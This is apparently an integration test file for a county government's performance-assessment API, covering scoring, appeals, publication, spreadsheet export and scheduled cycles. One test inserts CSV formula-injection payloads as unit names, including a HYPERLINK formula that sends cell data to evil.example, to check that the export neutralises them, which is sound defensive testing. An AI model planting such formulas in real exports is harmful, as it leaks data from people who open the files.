import { randomUUID } from 'node:crypto';
import type { TestWorkflowEnvironment } from '@temporalio/testing';
import type { Worker } from '@temporalio/worker';
import ExcelJS from 'exceljs';
import { and, count, eq } from 'drizzle-orm';
import request from 'supertest';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createActivities } from '../../activities';
import {
  assessmentCycles,
  assessmentRatees,
  assessmentScores,
  assessmentSnapshots,
  calendarYears,
  caseClocks,
  cases,
  incidentFacts,
  NATIONAL_REGION,
  notices,
  summonsDepartments,
  type IncidentFacts,
} from '../../db/schema';
import { DEMO_ASSESSMENT_SCHEMES } from '../../db/seed/assessment';
import { previousPeriod } from '../../domain/assessment';
import { assessmentScheduleId, ensureAssessmentSchedules } from '../../worker/assessment-schedules';
import { bundleWorkflows, createWorker } from '../../worker/create-worker';
import { createTestApp, type TestApp } from '../support/app';
import { createDevEnvironment } from '../support/temporal';

let env: TestWorkflowEnvironment;
let t: TestApp;
let worker: Worker;
let running: Promise<void>;
let taskQueue: string;

// The month assessed: the one that ended last, and the one before it.
const MONTH = previousPeriod('month', Date.now());
const EARLIER = previousPeriod('month', Date.parse(MONTH.start) + 3_600_000);
const inMonth = (p: { start: string }, day: number) => new Date(Date.parse(p.start) + day * 86_400_000);
const afterMonth = new Date(Date.parse(MONTH.end) + 86_400_000);

beforeAll(async () => {
  taskQueue = `assessment-${randomUUID()}`;
  const [e, bundle] = await Promise.all([createDevEnvironment(), bundleWorkflows()]);
  env = e;
  t = await createTestApp({ temporal: env.client, env: { TEMPORAL_TASK_QUEUE: taskQueue } });
  await t.tdb.db
    .insert(calendarYears)
    .values({ region: NATIONAL_REGION, year: new Date().getUTCFullYear() + 1, status: 'complete', source: 'admin' })
    .onConflictDoNothing();
  await seedActivity();
  worker = await createWorker({
    connection: env.nativeConnection,
    namespace: 'default',
    taskQueue,
    activities: createActivities({ db: t.tdb.db, temporal: env.client }),
    workflowBundle: bundle,
  });
  running = worker.run();
});
afterAll(async () => {
  worker?.shutdown();
  await running;
  await t?.close();
  await env?.teardown();
});

const api = () => request(t.app);
const auth = async (username: string) => ({ authorization: `Bearer ${await t.tokenFor(username)}` });
type Body = Record<string, unknown>;

async function call(
  method: 'get' | 'post' | 'put',
  username: string,
  path: string,
  body?: Body,
): Promise<request.Response> {
  const req = api()
    [method](`/api/v1${path}`)
    .set(await auth(username));
  return body ? req.send(body) : req;
}
async function ok(method: 'get' | 'post' | 'put', username: string, path: string, body?: Body, status = 200) {
  const res = await call(method, username, path, body);
  expect(res.status, `${username} ${method} ${path}: ${JSON.stringify(res.body)}`).toBe(status);
  return res.body;
}

/** A case envelope for fixture facts (incident facts and clocks reference cases). */
function caseRow(
  id: string,
  process: 'incident' | 'approval',
  unitId: string,
  status: string,
  at: Date,
  closedAt: Date | null,
) {
  return {
    id,
    process,
    title: id,
    status,
    unitId,
    ownerUnitId: unitId,
    projectedSeq: 1,
    createdAt: at,
    updatedAt: at,
    closedAt,
  };
}

function incident(id: string, gridId: string, at: Date, f: Partial<IncidentFacts>): IncidentFacts {
  const path = ['lk', gridId.split('.').slice(0, 2).join('.'), gridId.split('.').slice(0, 3).join('.'), gridId].join(
    '/',
  );
  return {
    caseId: id,
    seq: 1,
    categoryCode: 'city-appearance',
    urgencyCode: 'normal',
    source: 'patrol',
    gridId,
    gridPath: path,
    unitIds: [gridId],
    status: 'closed',
    startLevel: 1,
    currentLevel: 1,
    finalLevel: 1,
    escalations: 0,
    autoEscalations: 0,
    lateUnits: [],
    reopens: 0,
    onTime: true,
    redCard: false,
    satisfaction: null,
    reportedAt: at,
    resolvedAt: at,
    closedAt: at,
    hotlineType: null,
    hotlineResponded: null,
    hotlineResolved: null,
    ...f,
  };
}

/**
 * Seeded activity of the assessed month (and one fact on each side of it that must not count):
 * lk.t01 — 4 incidents (3 resolved, 2 on time, 3 closed, 2 escalated, 3 called back of which 2
 * satisfied, 1 hotline order responded/resolved/satisfied), 2 concluded approvals (1 late), one 督办;
 * lk.t02 — 1 incident resolved on time; lk.t03 — nothing.
 */
async function seedActivity() {
  const db = t.tdb.db;
  const d = (n: number) => inMonth(MONTH, n);
  const incidents = [
    incident('SJ-F1', 'lk.t01.v01.g01', d(2), { satisfaction: 'satisfied' }),
    incident('SJ-F2', 'lk.t01.v01.g01', d(3), {
      finalLevel: 2,
      currentLevel: 2,
      onTime: false,
      escalations: 1,
      autoEscalations: 1,
      lateUnits: [{ level: 1, unitId: 'lk.t01.v01.g01', deadline: null }],
      satisfaction: 'unsatisfied',
    }),
    incident('SJ-F3', 'lk.t01.v02.g01', d(4), {
      source: 'hotline',
      finalLevel: 3,
      currentLevel: 3,
      escalations: 1,
      hotlineType: 'ordinary',
      hotlineResponded: true,
      hotlineResolved: true,
      satisfaction: 'basic',
    }),
    incident('SJ-F4', 'lk.t01.v01.g02', d(5), {
      source: 'photo',
      status: 'handling',
      finalLevel: null,
      onTime: null,
      resolvedAt: null,
      closedAt: null,
    }),
    incident('SJ-F5', 'lk.t01.v01.g01', inMonth(EARLIER, 3), {}),
    incident('SJ-F6', 'lk.t01.v01.g01', afterMonth, {}),
    incident('SJ-F7', 'lk.t02.v01.g01', d(6), {}),
  ];
  const approvals = [
    { id: 'SP-F1', at: d(7), status: 'concluded', red: false },
    { id: 'SP-F2', at: d(8), status: 'concluded', red: true },
    { id: 'SP-F3', at: afterMonth, status: 'concluded', red: false },
    { id: 'SP-F4', at: d(9), status: 'rejected', red: false },
  ];
  await db
    .insert(cases)
    .values([
      ...incidents.map((i) =>
        caseRow(i.caseId, 'incident', i.gridId, i.status, i.reportedAt as Date, (i.closedAt as Date | null) ?? null),
      ),
      ...approvals.map((a) => caseRow(a.id, 'approval', 'lk.t01', a.status, a.at, a.at)),
    ]);
  await db.insert(incidentFacts).values(incidents);
  await db.insert(caseClocks).values(
    approvals.map((a) => ({
      caseId: a.id,
      key: 'case',
      label: '承诺时限',
      state: 'stopped',
      level: a.red ? ('red' as const) : ('green' as const),
      budget: { unit: 'workday', amount: 5 },
      consumed: 1,
    })),
  );
  await db.insert(notices).values([
    { caseId: 'SP-F2', key: 'overdue:case', kind: 'overdue', unitId: 'lk.t01', message: '【督办】', createdAt: d(9) },
    {
      caseId: 'SP-F3',
      key: 'overdue:case',
      kind: 'overdue',
      unitId: 'lk.t01',
      message: '【督办】',
      createdAt: afterMonth,
    },
    {
      caseId: 'SP-F1',
      key: 'overdue:step',
      kind: 'overdue',
      unitId: 'lk.t01',
      message: '【督办】',
      createdAt: inMonth(EARLIER, 5),
    },
  ]);
}

const score = (username: string, id: string, scores: { rateeKey: string; indicatorCode: string; score: number }[]) =>
  call('post', username, `/assessment/cycles/${id}/scores`, { scores });

async function cycleRow(id: string) {
  const [row] = await t.tdb.db.select().from(assessmentCycles).where(eq(assessmentCycles.caseId, id));
  return row!;
}

/** Poll the read model until the workflow's transition is projected. */
async function phaseReached(id: string, phase: string) {
  for (let i = 0; i < 100; i += 1) {
    if ((await cycleRow(id)).phase === phase) return;
    await new Promise((r) => setTimeout(r, 100));
  }
  throw new Error(`${id} never reached ${phase}`);
}

describe('a monthly county-to-township cycle through the API', () => {
  let id = '';

  it('opens by hand for the month that ended, snapshots the indicators and refuses a second open or an unfinished period', async () => {
    const view = await ok(
      'post',
      'lk.assessor',
      '/assessment/cycles',
      { schemeCode: 'township-monthly', periodKey: MONTH.key },
      201,
    );
    id = view.caseId;
    expect(id).toMatch(/^KH-\d{4}-\d{6}$/);
    expect(view).toMatchObject({ phase: 'scoring', schemeVersion: 1, ratees: 3, expectedScores: 3 * 13 });
    const again = await call('post', 'lk.assessor', '/assessment/cycles', {
      schemeCode: 'township-monthly',
      periodKey: MONTH.key,
    });
    expect([again.status, again.body.code]).toEqual([409, 'cycle-exists']);
    const thisMonth = previousPeriod('month', Date.parse(MONTH.end) + 40 * 86_400_000).key;
    const early = await call('post', 'lk.assessor', '/assessment/cycles', {
      schemeCode: 'township-monthly',
      periodKey: thisMonth,
    });
    expect([early.status, early.body.code]).toEqual([422, 'period-not-ended']);
    const notAssessor = await call('post', 't01.leader', '/assessment/cycles', {
      schemeCode: 'township-monthly',
      periodKey: EARLIER.key,
    });
    expect(notAssessor.status).toBe(403);
  });

  it('a scheme changed mid-cycle does not change the running cycle', async () => {
    const v1 = DEMO_ASSESSMENT_SCHEMES.find((s) => s.code === 'township-monthly')!;
    const indicators = (v1.definition.indicators as { code: string; formula: Body }[]).map((i) =>
      i.code === 'urging' ? { ...i, formula: { type: 'deduction', metric: 'notice.overdue', perEvent: 50 } } : i,
    );
    const saved = await ok('put', 'admin', '/assessment/schemes/township-monthly', {
      name: v1.name,
      definition: { ...v1.definition, indicators },
      reason: '督办扣分加重',
    });
    expect(saved.version).toBe(2);
    expect((await cycleRow(id)).schemeVersion).toBe(1);
    const refused = await call('put', 'lk.assessor', '/assessment/schemes/township-monthly', {
      name: 'x',
      definition: v1.definition,
    });
    expect(refused.status).toBe(403);
    const invalid = await call('put', 'admin', '/assessment/schemes/township-monthly', {
      name: v1.name,
      definition: { ...v1.definition, indicators: indicators.slice(1) },
    });
    expect([invalid.status, invalid.body.code]).toEqual([400, 'validation-failed']);
  });

  it('raters score only their own ratees; a refused score changes nothing', async () => {
    const before = await t.tdb.db.select({ n: count() }).from(assessmentScores);
    const notRater = await score('t01.leader', id, [
      { rateeKey: 'unit:lk.t02', indicatorCode: 'enforcement', score: 90 },
    ]);
    expect([notRater.status, notRater.body.code]).toEqual([403, 'not-your-ratee']);
    const notLeader = await score('scjg.approver', id, [
      { rateeKey: 'unit:lk.t01', indicatorCode: 'enforcement', score: 90 },
    ]);
    expect(notLeader.status).toBe(403);
    const automatic = await score('scjg.leader', id, [{ rateeKey: 'unit:lk.t01', indicatorCode: 'urging', score: 90 }]);
    expect([automatic.status, automatic.body.code]).toEqual([422, 'indicator-automatic']);
    expect(await t.tdb.db.select({ n: count() }).from(assessmentScores)).toEqual(before);

    const sheet = await ok('get', 'scjg.leader', `/assessment/cycles/${id}`);
    expect(sheet.scoreSheet.map((s: { rateeKey: string }) => s.rateeKey)).toEqual([
      'unit:lk.t01',
      'unit:lk.t02',
      'unit:lk.t03',
    ]);
    await ok('post', 'scjg.leader', `/assessment/cycles/${id}/scores`, {
      scores: [
        { rateeKey: 'unit:lk.t01', indicatorCode: 'enforcement', score: 90 },
        { rateeKey: 'unit:lk.t02', indicatorCode: 'enforcement', score: 50 },
        { rateeKey: 'unit:lk.t03', indicatorCode: 'enforcement', score: 40 },
      ],
    });
    // Departments have no assessor in the demo: their leader scores.
    await ok('post', 'zrzy.leader', `/assessment/cycles/${id}/scores`, {
      scores: [{ rateeKey: 'unit:lk.t01', indicatorCode: 'enforcement', score: 70 }],
    });
    const progress = await ok('get', 'lk.assessor', `/assessment/cycles/${id}`);
    expect(progress.missingByRater['lk.dept.scjg']).toBeUndefined();
    expect(progress.missingByRater['lk.dept.zrzy']).toBe(2);
    expect(progress.missingByRater['lk.dept.sthj']).toBe(3);
    // Per rater unit, by name: how many scores it owes and has given (the console's progress table).
    const byUnit = new Map(progress.progressByRater.map((p: { unitId: string }) => [p.unitId, p]));
    expect(byUnit.get('lk.dept.scjg')).toMatchObject({ name: '兰考县市场监督管理局', expected: 3, given: 3 });
    expect(byUnit.get('lk.dept.zrzy')).toMatchObject({ expected: 3, given: 1 });
    expect(byUnit.get('lk.dept.sthj')).toMatchObject({ expected: 3, given: 0 });
    expect(progress.progressByRater[0].given).toBe(0);
    // A rater's sheet carries the indicator's guidance and the snapshot figures of each ratee; others get no progress.
    const mineNow = await ok('get', 'scjg.leader', `/assessment/cycles/${id}`);
    expect(mineNow.progressByRater).toBeNull();
    expect(mineNow.scoreSheet[0]).toMatchObject({
      rateeKey: 'unit:lk.t01',
      indicatorCode: 'enforcement',
      score: 90,
      weight: 10,
    });
    expect(mineNow.scoreSheet[0].guidance).toContain('联合执法');
    const figures = mineNow.figures['unit:lk.t01'] as { metric: string; name: string; value: number }[];
    const snapshot = await t.tdb.db
      .select()
      .from(assessmentSnapshots)
      .where(and(eq(assessmentSnapshots.caseId, id), eq(assessmentSnapshots.rateeKey, 'unit:lk.t01')));
    expect(figures.find((f) => f.metric === 'notice.overdue')).toEqual({
      metric: 'notice.overdue',
      name: '督办次数',
      value: snapshot[0]!.metrics['notice.overdue'] ?? 0,
    });
    // Raters see the cycle in their inbox.
    const inbox = await ok('get', 'sthj.leader', '/inbox?pageSize=200');
    expect(inbox.items.find((i: { id: string }) => i.id === id)?.actions).toEqual(['score']);
  });

  it('the assessor closes scoring; results are hidden until published, then visible county-wide, every number explained', async () => {
    await ok('post', 'lk.assessor', `/assessment/cycles/${id}/close-scoring`, { reason: '评分工作已基本完成' });
    await phaseReached(id, 'review');
    const hidden = await call('get', 't01.leader', `/assessment/cycles/${id}/results`);
    expect(hidden.status).toBe(403);
    const late = await score('sthj.leader', id, [
      { rateeKey: 'unit:lk.t01', indicatorCode: 'enforcement', score: 100 },
    ]);
    expect([late.status, late.body.code]).toEqual([409, 'scoring-closed']);

    const ranking = await ok('get', 'lk.assessor', `/assessment/cycles/${id}/results`);
    // Hand-computed from the fixture (scheme v1):
    // t02: approvals none → 20, incidents 1/1 → 20, disposal 10, escalation 0 → 5, satisfaction none → 10,
    //      hotline none → 4.5 + 5.25 + 5.25, no 督办 → 10, enforcement 50 (scjg; 12 missing take the average) → 5 = 95
    // t03: everything empty → 90, enforcement 40 → 4 = 94
    // t01: approvals 1/2 → 10, on time 2/3 → 13.33, disposal 3/4 → 7.5, escalation 2/4 = 50 % → 0,
    //      satisfaction 2/3 → 6.67, hotline 1/1 ×3 → 15, one 督办 → 80 % of 10 = 8, enforcement (90 + 70) / 2 = 80 → 8 = 68.5
    expect(ranking.items.map((r: Body) => [r.rateeKey, r.total, r.gradeLabel, r.rank])).toEqual([
      ['unit:lk.t02', 95, '优秀', 1],
      ['unit:lk.t03', 94, '优秀', 2],
      ['unit:lk.t01', 68.5, '合格', 3],
    ]);
    expect(ranking.top.map((r: Body) => r.rateeKey)).toEqual(['unit:lk.t02', 'unit:lk.t03', 'unit:lk.t01']);

    const b = await ok('get', 'lk.assessor', `/assessment/cycles/${id}/results/unit:lk.t01`);
    const line = (code: string) => b.result.indicators.find((i: { code: string }) => i.code === code);
    expect(line('approval-on-time')).toMatchObject({
      score: 50,
      contribution: 10,
      inputs: { 'approval.onTime': 1, 'approval.concluded': 2 },
    });
    expect(line('incident-on-time')).toMatchObject({
      score: 66.67,
      contribution: 13.33,
      inputs: { 'incident.onTime': 2, 'incident.resolved': 3 },
    });
    expect(line('disposal')).toMatchObject({ score: 75, contribution: 7.5 });
    expect(line('escalation')).toMatchObject({ score: 0, inputs: { 'incident.escalated': 2, 'incident.total': 4 } });
    expect(line('satisfaction')).toMatchObject({ score: 66.67, contribution: 6.67 });
    expect(line('urging')).toMatchObject({ score: 80, contribution: 8, inputs: { 'notice.overdue': 1 } });
    expect(line('urging').explanation).toContain('100 − 20.00 × 1 = 80.00');
    expect(line('enforcement')).toMatchObject({ score: 80, contribution: 8 });
    expect(line('enforcement').manual.missing).toHaveLength(11);
    // The source data behind each number: the very cases counted.
    const source = Object.fromEntries(
      b.sourceData.map((s: { metric: string; value: number; caseIds: string[] }) => [s.metric, s]),
    );
    expect(source['incident.total']).toMatchObject({ value: 4, caseIds: ['SJ-F1', 'SJ-F2', 'SJ-F3', 'SJ-F4'] });
    expect(source['incident.onTime'].caseIds).toEqual(['SJ-F1', 'SJ-F3']);
    expect(source['approval.onTime'].caseIds).toEqual(['SP-F1']);
    expect(source['notice.overdue'].caseIds).toEqual(['SP-F2']);
    expect(source['hotline.orders'].caseIds).toEqual(['SJ-F3']);

    await ok('post', 'lk.assessor', `/assessment/cycles/${id}/publish`, { note: '公示 5 个工作日' });
    await phaseReached(id, 'published');
    const seen = await ok('get', 't02.handler', `/assessment/cycles/${id}/results`);
    expect(seen.items).toHaveLength(3);
    expect((await call('get', 't02.leader', `/assessment/cycles/${id}/results/unit:lk.t01`)).status).toBe(403);
    expect((await ok('get', 't01.handler', `/assessment/cycles/${id}/results/unit:lk.t01`)).result.total).toBe(68.5);
    const listed = await ok('get', 't03.handler', '/assessment/cycles?phase=published');
    expect(listed.items.map((c: { caseId: string }) => c.caseId)).toContain(id);
  });

  it('an appeal by the ratee, decided by the assessor with a reason, recomputes the ranking', async () => {
    const other = await call('post', 't02.leader', `/assessment/cycles/${id}/appeals`, {
      rateeKey: 'unit:lk.t01',
      reason: '替城关镇申诉',
    });
    expect([other.status, other.body.code]).toEqual([403, 'not-your-result']);
    await ok('post', 't01.leader', `/assessment/cycles/${id}/appeals`, {
      rateeKey: 'unit:lk.t01',
      indicatorCode: 'urging',
      reason: '该督办系审批系统误发，已撤销',
    });
    const appeals = await ok('get', 't01.leader', `/assessment/cycles/${id}/appeals`);
    expect(appeals.items).toMatchObject([{ appealId: 'A1', status: 'pending' }]);
    expect((await ok('get', 't02.leader', `/assessment/cycles/${id}/appeals`)).items).toEqual([]);
    const byRater = await call('post', 'scjg.leader', `/assessment/cycles/${id}/appeals/A1/decision`, {
      decision: 'adjust',
      reason: 'x',
      adjustments: [{ indicatorCode: 'urging', score: 100 }],
    });
    expect(byRater.status).toBe(403);
    await ok('post', 'lk.assessor', `/assessment/cycles/${id}/appeals/A1/decision`, {
      decision: 'adjust',
      reason: '经核实督办系误发，督办扣分恢复',
      adjustments: [{ indicatorCode: 'urging', score: 100 }],
    });
    for (let i = 0; i < 100; i += 1) {
      const r = await ok('get', 't01.leader', `/assessment/cycles/${id}/results/unit:lk.t01`);
      if (r.result.total !== 68.5) break;
      await new Promise((res) => setTimeout(res, 100));
    }
    const b = await ok('get', 't01.leader', `/assessment/cycles/${id}/results/unit:lk.t01`);
    expect(b.result.total).toBe(70.5);
    expect(b.result.indicators.find((i: { code: string }) => i.code === 'urging').override).toMatchObject({
      original: 80,
      score: 100,
      reason: '经核实督办系误发，督办扣分恢复',
    });
    expect(b.appeals).toMatchObject([
      { appealId: 'A1', status: 'adjusted', before: { total: 68.5 }, after: { total: 70.5 } },
    ]);
  });

  it('exports the ranking as CSV (UTF-8 BOM, quoted) and XLSX', async () => {
    const csv = await api()
      .get(`/api/v1/assessment/cycles/${id}/export.csv`)
      .set(await auth('t02.handler'))
      .buffer(true)
      .parse((res, cb) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => cb(null, Buffer.concat(chunks)));
      });
    expect(csv.status).toBe(200);
    expect(csv.headers['content-type']).toMatch(/text\/csv/);
    const bytes = csv.body as Buffer;
    expect([...bytes.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const lines = bytes.toString('utf8').slice(1).trim().split('\r\n');
    expect(lines[0]).toContain('名次,考核对象,代码,总分,等次');
    expect(lines[1]).toMatch(/^1,东坝头镇,unit:lk\.t02,95,优秀,/);
    expect(lines[3]).toContain('70.5');

    const xlsx = await api()
      .get(`/api/v1/assessment/cycles/${id}/export.xlsx`)
      .set(await auth('lk.assessor'))
      .buffer(true)
      .parse((res, cb) => {
        const chunks: Buffer[] = [];
        res.on('data', (c: Buffer) => chunks.push(c));
        res.on('end', () => cb(null, Buffer.concat(chunks)));
      });
    expect(xlsx.status).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(xlsx.body as never);
    const sheet = book.getWorksheet('考核结果')!;
    expect(sheet.getRow(2).getCell(2).value).toBe('考核对象');
    expect(sheet.getRow(3).getCell(2).value).toBe('东坝头镇');
    expect(sheet.getRow(3).getCell(4).value).toBe(95);
  });

  it('CSV export: a ratee named like a formula comes out as text, not a live cell', async () => {
    // Names are snapshotted at cycle open; give two ratees names a hostile admin could have typed.
    const rename = (key: string, name: string) =>
      t.tdb.db
        .update(assessmentRatees)
        .set({ name })
        .where(and(eq(assessmentRatees.caseId, id), eq(assessmentRatees.rateeKey, key)))
        .returning({ old: assessmentRatees.name });
    const hostile = {
      'unit:lk.t01': '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")',
      'unit:lk.t03': '+1+2',
      'unit:lk.t02': '\t@SUM(1)',
    };
    const originals = new Map<string, string>();
    for (const [key, name] of Object.entries(hostile)) originals.set(key, (await rename(key, name))[0]!.old);
    try {
      const csv = await api()
        .get(`/api/v1/assessment/cycles/${id}/export.csv`)
        .set(await auth('lk.assessor'))
        .buffer(true)
        .parse((res, cb) => {
          const chunks: Buffer[] = [];
          res.on('data', (c: Buffer) => chunks.push(c));
          res.on('end', () => cb(null, Buffer.concat(chunks)));
        });
      expect(csv.status).toBe(200);
      const lines = (csv.body as Buffer).toString('utf8').slice(1).trim().split('\r\n');
      const nameCell = (key: string) =>
        lines
          .find((l) => l.includes(`,${key},`))!
          .split(`,${key},`)[0]!
          .replace(/^\d+,/, '');
      expect(nameCell('unit:lk.t01')).toBe(`"'=HYPERLINK(""http://evil.example/?x=""&A1,""点击查看"")"`);
      expect(nameCell('unit:lk.t03')).toBe(`"'+1+2"`);
      expect(nameCell('unit:lk.t02')).toBe(`"'\t@SUM(1)"`);
      // Numbers stay numeric cells; no line starts a cell with a formula character.
      expect(lines[1]).toMatch(/^1,/);
      for (const line of lines) expect(line).not.toMatch(/(^|,)[=+@\t]/);
    } finally {
      for (const [key, name] of originals) await rename(key, name);
    }
  });

  it('a cycle opened after the scheme change uses the new version; a unit’s history spans cycles', async () => {
    await t.tdb.db.insert(notices).values({
      caseId: 'SJ-F5',
      key: 'overdue:x',
      kind: 'overdue',
      unitId: 'lk.t02',
      message: '【督办】',
      createdAt: inMonth(EARLIER, 6),
    });
    const view = await ok(
      'post',
      'lk.assessor',
      '/assessment/cycles',
      { schemeCode: 'township-monthly', periodKey: EARLIER.key },
      201,
    );
    expect(view.schemeVersion).toBe(2);
    await ok('post', 'lk.assessor', `/assessment/cycles/${view.caseId}/close-scoring`, { reason: '测试' });
    await phaseReached(view.caseId, 'review');
    const b = await ok('get', 'lk.assessor', `/assessment/cycles/${view.caseId}/results/unit:lk.t02`);
    // v2 deducts 50 per 督办: 100 − 50 × 1 = 50.
    expect(b.result.indicators.find((i: { code: string }) => i.code === 'urging')).toMatchObject({
      score: 50,
      inputs: { 'notice.overdue': 1 },
    });
    const history = await ok('get', 'lk.assessor', '/assessment/ratees/unit:lk.t01/history');
    expect(history.items.map((h: { cycle: { periodKey: string } }) => h.cycle.periodKey)).toEqual([
      MONTH.key,
      EARLIER.key,
    ]);
    // Others see published results only.
    const publicHistory = await ok('get', 't01.handler', '/assessment/ratees/unit:lk.t01/history');
    expect(
      publicHistory.items.map((h: { cycle: { periodKey: string }; total: number }) => [h.cycle.periodKey, h.total]),
    ).toEqual([[MONTH.key, 70.5]]);
  });
});

describe('township-on-department indicators from the summons facts', () => {
  it('报到 timeliness, results, ratings and misses of a department over an ended quarter, with the summons parts behind them', async () => {
    const db = t.tdb.db;
    const year = new Date(Date.now() + 8 * 3_600_000).getUTCFullYear();
    const quarter = previousPeriod('quarter', Date.parse(`${year}-11-15T00:00:00+08:00`)).key; // Q3 of this year
    const at = new Date(`${year}-08-10T10:00:00+08:00`);
    const parts = [
      { caseId: 'CS-P1', ackOnTime: true, resultOnTime: true, rating: 'satisfied' as const, missCount: 0 },
      { caseId: 'CS-P2', ackOnTime: false, resultOnTime: true, rating: 'unsatisfied' as const, missCount: 1 },
      { caseId: 'CS-P3', ackOnTime: true, resultOnTime: null, rating: null, missCount: 0 },
    ];
    await db.insert(cases).values(
      parts.map((p) => ({
        ...caseRow(p.caseId, 'incident', 'lk.dept.scjg', 'open', at, null),
        process: 'summons' as const,
      })),
    );
    await db.insert(summonsDepartments).values(
      parts.map((p) => ({
        ...p,
        summonsId: 'CS-W1',
        seq: 1,
        unitId: 'lk.dept.scjg',
        unitKind: 'department',
        departmentId: 'lk.dept.scjg',
        townshipId: 'lk.t01',
        townshipPath: 'lk/lk.t01',
        status: 'open',
        urgencyCode: 'normal',
        notifiedAt: at,
      })),
    );
    const view = await ok(
      'post',
      'lk.assessor',
      '/assessment/cycles',
      { schemeCode: 'department-quarterly', periodKey: quarter },
      201,
    );
    await ok('post', 'lk.assessor', `/assessment/cycles/${view.caseId}/close-scoring`, { reason: '测试' });
    await phaseReached(view.caseId, 'review');
    const b = await ok('get', 'lk.assessor', `/assessment/cycles/${view.caseId}/results/unit:lk.dept.scjg`);
    const line = (code: string) => b.result.indicators.find((i: { code: string }) => i.code === code);
    // 报到 2/3 → 16.67 of 25; results 2/3 → 10 of 15; satisfied 1 of 2 rated → 7.5 of 15; one miss → 75 % of 10;
    // no incidents → 15; cooperation not scored by any township → 0. Total 56.67 不合格.
    expect(line('report-on-time')).toMatchObject({
      score: 66.67,
      contribution: 16.67,
      inputs: { 'summons.ackOnTime': 2, 'summons.parts': 3 },
    });
    expect(line('result-on-time')).toMatchObject({ contribution: 10 });
    expect(line('summons-satisfaction')).toMatchObject({
      score: 50,
      inputs: { 'summons.satisfied': 1, 'summons.rated': 2 },
    });
    expect(line('red-cards')).toMatchObject({ score: 75, inputs: { 'summons.misses': 1 } });
    expect([b.result.total, b.result.gradeLabel]).toEqual([56.67, '不合格']);
    expect(b.sourceData.find((s: { metric: string }) => s.metric === 'summons.parts').caseIds).toEqual([
      'CS-P1',
      'CS-P2',
      'CS-P3',
    ]);
  });
});

describe('schedules', () => {
  it('registers one schedule per scheme idempotently, pauses an inactive one, and a fired schedule opens the cycle of the month that ended', async () => {
    const opts = { taskQueue, calendarFallback: 'refuse' as const };
    const all = DEMO_ASSESSMENT_SCHEMES.map((s) => assessmentScheduleId(s.code)).sort();
    // Saving a scheme earlier in this file already synchronised them; either way each exists once.
    const first = await ensureAssessmentSchedules(env.client, t.tdb.db, opts);
    expect([...first.created, ...first.updated].sort()).toEqual(all);
    const second = await ensureAssessmentSchedules(env.client, t.tdb.db, opts);
    expect(second.created).toEqual([]);
    expect(second.updated.sort()).toEqual(all);
    const listed: string[] = [];
    for await (const s of env.client.schedule.list())
      if (s.scheduleId.startsWith('assessment-')) listed.push(s.scheduleId);
    expect(listed.sort()).toEqual(all);

    const monthly = await env.client.schedule.getHandle(assessmentScheduleId('grid-worker-monthly')).describe();
    expect(monthly.spec.timezone).toBe('Asia/Shanghai');
    expect(monthly.spec.calendars?.[0]).toMatchObject({
      dayOfMonth: [{ start: 1, end: 1, step: 1 }],
      hour: [{ start: 1, end: 1, step: 1 }],
    });
    expect(monthly.action).toMatchObject({
      type: 'startWorkflow',
      workflowType: 'assessmentScheduleWorkflow',
      taskQueue,
    });
    expect(monthly.state.paused).toBe(false);
    const quarterly = await env.client.schedule.getHandle(assessmentScheduleId('department-quarterly')).describe();
    expect(quarterly.spec.calendars?.[0]?.month).toEqual([
      { start: 'JANUARY', end: 'JANUARY', step: 1 },
      { start: 'APRIL', end: 'APRIL', step: 1 },
      { start: 'JULY', end: 'JULY', step: 1 },
      { start: 'OCTOBER', end: 'OCTOBER', step: 1 },
    ]);

    const seconded = DEMO_ASSESSMENT_SCHEMES.find((s) => s.code === 'seconded-annual')!;
    await ok('put', 'admin', '/assessment/schemes/seconded-annual', {
      name: seconded.name,
      active: false,
      definition: seconded.definition,
      reason: '暂停',
    });
    expect((await env.client.schedule.getHandle(assessmentScheduleId('seconded-annual')).describe()).state.paused).toBe(
      true,
    );

    await env.client.schedule.getHandle(assessmentScheduleId('grid-worker-monthly')).trigger();
    let row: typeof assessmentCycles.$inferSelect | undefined;
    for (let i = 0; i < 150 && row?.phase !== 'scoring'; i += 1) {
      [row] = await t.tdb.db
        .select()
        .from(assessmentCycles)
        .where(eq(assessmentCycles.schemeCode, 'grid-worker-monthly'));
      await new Promise((r) => setTimeout(r, 200));
    }
    expect(row).toMatchObject({ periodKey: MONTH.key, openedBy: 'system', phase: 'scoring' });
    // Grid workers: 16 in the demo, each rated by the command centre and their own township.
    const detail = await ok('get', 'zhzx.dispatcher', `/assessment/cycles/${row!.caseId}`);
    expect(detail.ratees).toBe(16);
    expect(detail.scoreSheet.filter((s: { indicatorCode: string }) => s.indicatorCode === 'spot-check')).toHaveLength(
      16,
    );
    const t01 = await ok('get', 't01.leader', `/assessment/cycles/${row!.caseId}`);
    expect(t01.scoreSheet).toHaveLength(6 * 3);
  });
});
